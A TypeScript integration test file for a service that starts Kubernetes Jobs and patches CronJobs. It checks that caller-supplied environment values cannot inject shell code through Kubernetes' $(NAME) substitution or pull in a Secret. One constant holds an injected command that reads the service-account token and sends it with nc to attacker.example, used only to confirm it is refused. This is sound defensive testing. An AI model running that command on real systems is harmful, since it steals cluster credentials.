import { HttpRequest, type HttpResponseInit, InvocationContext } from '@azure/functions';
import type { V1CronJob, V1EnvVar, V1Job } from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { LocalDurable } from '../../local/durable/runtime.js';
import { ALLOW_ENV_ANNOTATION } from '../../src/core/consent.js';
import { expandReferences } from '../../src/core/expansion.js';
import { MANAGED_BY_LABEL, MANAGED_BY_VALUE } from '../../src/core/labels.js';
import { getRun } from '../../src/functions/getRun.js';
import { listJobs } from '../../src/functions/listJobs.js';
import { updateCronJob } from '../../src/functions/updateCronJob.js';
import { createServices, setServices } from '../../src/services.js';
import { COMPLETE_DELAY_ANNOTATION } from '../../testenv/fates.js';
import { adminKube, testJob, useNamespace, waitFor } from './helpers.js';
import { localRunPath, runPathConfig, startJob } from './run-path.js';

/**
 * Issue 21 items 2 and 3, replayed as the tester did against the control plane: Kubernetes' own `$(NAME)`
 * substitution (kubernetes/kubernetes third_party/forked/golang/expansion/expand.go, applied by the kubelet to
 * env values and to command and args) must neither turn a caller's value into shell code nor copy a Secret into
 * a variable the caller reads. The control plane has no kubelet (kwok plays the nodes), so what is checked here is
 * what the API server stored; what the kubelet makes of it is the port of expand.go in test/core/expansion.test.ts.
 */
const ns = useNamespace('expansion');
const kube = adminKube();
let durable: LocalDurable;
const context = () => new InvocationContext({ functionName: 'it', invocationId: 'inv-expansion', logHandler: () => undefined });
const BASE = 'http://127.0.0.1:7071/api';
const ATTACK = 'x; cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc attacker.example 80';

const ENV: V1EnvVar[] = [
  { name: 'REPORT_DATE', value: 'today' },
  { name: 'GREETING', value: 'hello' },
  { name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password', optional: true } } },
];

/** The documented pattern: a shell line that substitutes a parameter with Kubernetes' syntax. */
function reportJob(name: string, allowEnv?: string): V1Job {
  const job = testJob({
    name,
    namespace: ns(),
    suspend: true,
    annotations: { [COMPLETE_DELAY_ANNOTATION]: '1h' },
    ...(allowEnv === undefined ? {} : { jobAnnotations: { [ALLOW_ENV_ANNOTATION]: allowEnv } }),
  });
  const main = job.spec?.template.spec?.containers[0];
  if (main) Object.assign(main, { command: ['sh', '-c', 'echo report for $(REPORT_DATE) $$(GREETING)'], env: ENV });
  return job;
}

beforeAll(async () => {
  setServices(createServices(runPathConfig(ns())));
  durable = localRunPath();
  for (const [name, allowEnv] of [['report', undefined], ['report-any', '*'], ['report-named', 'REPORT_DATE']] as const) {
    await kube.batch.createNamespacedJob({ namespace: ns(), body: reportJob(name, allowEnv) });
  }
  const template = reportJob('unused');
  const cronJob: V1CronJob = {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'nightly', namespace: ns() },
    spec: { schedule: '0 3 * * *', suspend: true, jobTemplate: { spec: template.spec } },
  };
  await kube.batch.createNamespacedCronJob({ namespace: ns(), body: cronJob });
});
afterAll(() => durable.close());

function json(r: HttpResponseInit): Record<string, unknown> {
  return r.jsonBody as Record<string, unknown>;
}

function start(name: string, body: unknown): Promise<HttpResponseInit> {
  return startJob(durable, ns(), name, body);
}

async function appJobs(): Promise<string[]> {
  const jobs = await kube.batch.listNamespacedJob({ namespace: ns(), labelSelector: `${MANAGED_BY_LABEL}=${MANAGED_BY_VALUE}` });
  return jobs.items.map((j) => j.metadata?.name ?? '');
}

describe('a caller value for a name the command substitutes as $(NAME)', () => {
  it('is refused with a 400, with and without allow-env "*", and nothing reaches the cluster', async () => {
    const before = await appJobs();
    for (const source of ['report', 'report-any']) {
      const refused = await start(source, { REPORT_DATE: ATTACK });
      expect(refused.status, JSON.stringify(refused.jsonBody)).toBe(400);
      expect(json(refused).title).toBe('EnvNotAllowed');
      expect(json(refused).detail).toContain('"REPORT_DATE" is substituted into the command or args');
    }
    expect(await appJobs()).toEqual(before);
  });

  it('is accepted where allow-env names it (the owner consents), and the value is stored literal', async () => {
    const started = await start('report-named', { REPORT_DATE: '2026-12-01' });
    expect(started.status, JSON.stringify(started.jsonBody)).toBe(202);
  });

  it('an escaped $$(GREETING) in the command is no reference: GREETING stays a plain parameter', async () => {
    const started = await start('report', { GREETING: 'hi' });
    expect(started.status, JSON.stringify(started.jsonBody)).toBe(202);
  });

  it('discovery marks the substituted names as commandParams', async () => {
    const response = await listJobs(new HttpRequest({ method: 'GET', url: `${BASE}/jobs?namespace=${ns()}` }), context());
    const items = (json(response).items as { name: string; commandParams: string[] }[]).filter((i) => i.name.startsWith('report'));
    expect(Object.fromEntries(items.map((i) => [i.name, i.commandParams]))).toEqual({ report: ['REPORT_DATE'], 'report-any': ['REPORT_DATE'], 'report-named': [] });
  });
});

describe('a caller value that names another variable, $(DB_PASSWORD)', () => {
  it('is stored as $$(DB_PASSWORD), which the kubelet gives the process as the literal text; the run shows the literal', async () => {
    const started = await start('report', { GREETING: '$(DB_PASSWORD)' });
    expect(started.status, JSON.stringify(started.jsonBody)).toBe(202);
    const runId = json(started).runId as string;
    const job = await waitFor(`Job ${runId}`, () => kube.batch.readNamespacedJob({ name: runId, namespace: ns() }));
    const stored = job.spec?.template.spec?.containers[0]?.env?.find((e) => e.name === 'GREETING')?.value;
    expect(stored).toBe('$$(DB_PASSWORD)');
    // What the kubelet makes of the stored value, with the Secret's value in scope.
    expect(expandReferences(stored ?? '', (name) => (name === 'DB_PASSWORD' ? 's3cret' : undefined))).toBe('$(DB_PASSWORD)');

    const status = await getRun(new HttpRequest({ method: 'GET', url: `${BASE}/runs/${runId}`, params: { runId } }), durable, context());
    expect(json(status).parameters).toEqual({ GREETING: '$(DB_PASSWORD)' });
  });
});

describe('a CronJob PATCH of env', () => {
  async function patch(body: unknown): Promise<HttpResponseInit> {
    const current = await kube.batch.readNamespacedCronJob({ name: 'nightly', namespace: ns() });
    const request = new HttpRequest({
      method: 'PATCH',
      url: `${BASE}/cronjobs/${ns()}/nightly`,
      params: { namespace: ns(), name: 'nightly' },
      headers: { 'content-type': 'application/json', 'If-Match': `"${current.metadata?.resourceVersion ?? ''}"` },
      body: { string: JSON.stringify(body) },
    });
    return updateCronJob(request, context());
  }
  const storedEnv = async () => (await kube.batch.readNamespacedCronJob({ name: 'nightly', namespace: ns() })).spec.jobTemplate.spec?.template.spec?.containers[0]?.env;

  it('stores a value naming a Secret escaped, so the cluster\'s runs get the literal text', async () => {
    const patched = await patch({ env: { GREETING: '$(DB_PASSWORD)' } });
    expect(patched.status, JSON.stringify(patched.jsonBody)).toBe(200);
    expect((await storedEnv())?.find((e) => e.name === 'GREETING')?.value).toBe('$$(DB_PASSWORD)');
  });

  it('refuses a value for a name its command substitutes, and the CronJob is unchanged', async () => {
    const before = await storedEnv();
    const refused = await patch({ env: { REPORT_DATE: ATTACK } });
    expect(refused.status, JSON.stringify(refused.jsonBody)).toBe(400);
    expect(json(refused).title).toBe('EnvNotAllowed');
    expect(await storedEnv()).toEqual(before);
  });
});
